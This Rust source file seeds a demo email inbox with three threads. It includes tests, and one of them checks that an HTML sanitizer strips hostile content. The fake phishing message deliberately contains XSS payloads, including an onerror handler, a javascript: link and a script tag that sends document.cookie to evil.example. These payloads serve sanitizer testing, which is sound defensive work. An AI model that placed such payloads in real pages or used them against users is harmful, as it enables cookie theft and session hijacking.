//! Demo inbox written to empty storage.

use chrono::{Duration, Utc};

use crate::model::{
    Attachment, AttachmentKind, Conversation, ConversationId, Message, MessageId, Participant,
};

fn message(
    id: &str,
    conversation: &str,
    sender: &Participant,
    hours_ago: i64,
    body_html: &str,
) -> Message {
    Message {
        id: MessageId::new(id),
        conversation_id: ConversationId::new(conversation),
        sender: sender.clone(),
        recipients: vec!["me@example.com".to_string()],
        timestamp: Utc::now() - Duration::hours(hours_ago),
        body_html: body_html.to_string(),
        attachments: Vec::new(),
    }
}

/// Returns the demo conversations, most recent first.
///
/// One thread carries hostile markup on purpose; it only renders safely
/// through the sanitizer.
#[must_use]
pub fn seed_conversations() -> Vec<Conversation> {
    let recruiter = Participant::new("Dana Whitfield", "dana@talentbridge.example");
    let maintainer = Participant::new("Oskar Lind", "oskar@rustfest.example");
    let unknown = Participant::new("Prize Desk", "winner@prizes.example");
    let me = Participant::new("Me", "me@example.com");

    let mut interview = Conversation::new(
        ConversationId::new("1"),
        "Interview follow-up",
        message(
            "m-1",
            "1",
            &recruiter,
            30,
            "<p>Thanks for chatting today! Could you send over the <b>résumé PDF</b> \
             and a link to the portfolio?</p>",
        ),
    )
    .with_labels(&["jobs", "important"]);
    let mut reply = message(
        "m-2",
        "1",
        &me,
        29,
        "<p>Of course, attached. The portfolio lives at \
         <a href=\"https://example.com/portfolio\" target=\"_blank\">example.com/portfolio</a>.</p>",
    );
    reply.recipients = vec![recruiter.email.clone()];
    reply.attachments.push(Attachment {
        name: "resume.pdf".to_string(),
        kind: AttachmentKind::Document,
        url: "/files/resume.pdf".to_string(),
        size: Some(184_320),
    });
    interview.push_message(reply, crate::model::DEFAULT_PREVIEW_LENGTH);
    interview.push_message(
        message(
            "m-3",
            "1",
            &recruiter,
            4,
            "<p>Great, the team loved it. Are you free <em>Thursday</em> at 3pm?</p>",
        ),
        crate::model::DEFAULT_PREVIEW_LENGTH,
    );

    let mut talk = Conversation::new(
        ConversationId::new("2"),
        "Talk proposal: optimistic UIs",
        message(
            "m-4",
            "2",
            &maintainer,
            52,
            "<p>Your proposal made the shortlist.</p>\
             <ul><li>Slot: 25 minutes</li><li>Track: Web</li></ul>",
        ),
    )
    .with_labels(&["speaking"]);
    talk.is_read = true;
    talk.is_starred = true;

    let phishing = Conversation::new(
        ConversationId::new("3"),
        "You won!!!",
        message(
            "m-5",
            "3",
            &unknown,
            75,
            "<p onclick=\"steal()\">Claim your prize <a href=\"javascript:alert('pwned')\">here</a>\
             <img src=\"x\" onerror=\"alert(document.cookie)\"></p>\
             <script>fetch('https://evil.example/?c=' + document.cookie)</script>",
        ),
    )
    .with_labels(&["spam"]);

    vec![interview, talk, phishing]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_seed_invariants() {
        let conversations = seed_conversations();
        assert_eq!(conversations.len(), 3);

        for conversation in &conversations {
            assert!(!conversation.messages.is_empty());
            let last = conversation.last_message().map(|m| m.timestamp);
            assert_eq!(last, Some(conversation.last_message_time));
            assert!(conversation.preview.chars().count() <= 100);
            assert!(
                conversation
                    .messages
                    .iter()
                    .all(|m| m.conversation_id == conversation.id)
            );
        }

        let times: Vec<_> = conversations.iter().map(|c| c.last_message_time).collect();
        assert!(times.windows(2).all(|w| w[0] >= w[1]));
    }

    #[test]
    fn test_hostile_seed_renders_safely() {
        let conversations = seed_conversations();
        let body = conversations[2].messages[0].sanitized_body();
        assert!(!body.as_str().contains("script"));
        assert!(!body.as_str().contains("onerror"));
        assert!(!body.as_str().contains("javascript"));
        assert!(body.as_str().contains("Claim your prize"));
    }
}
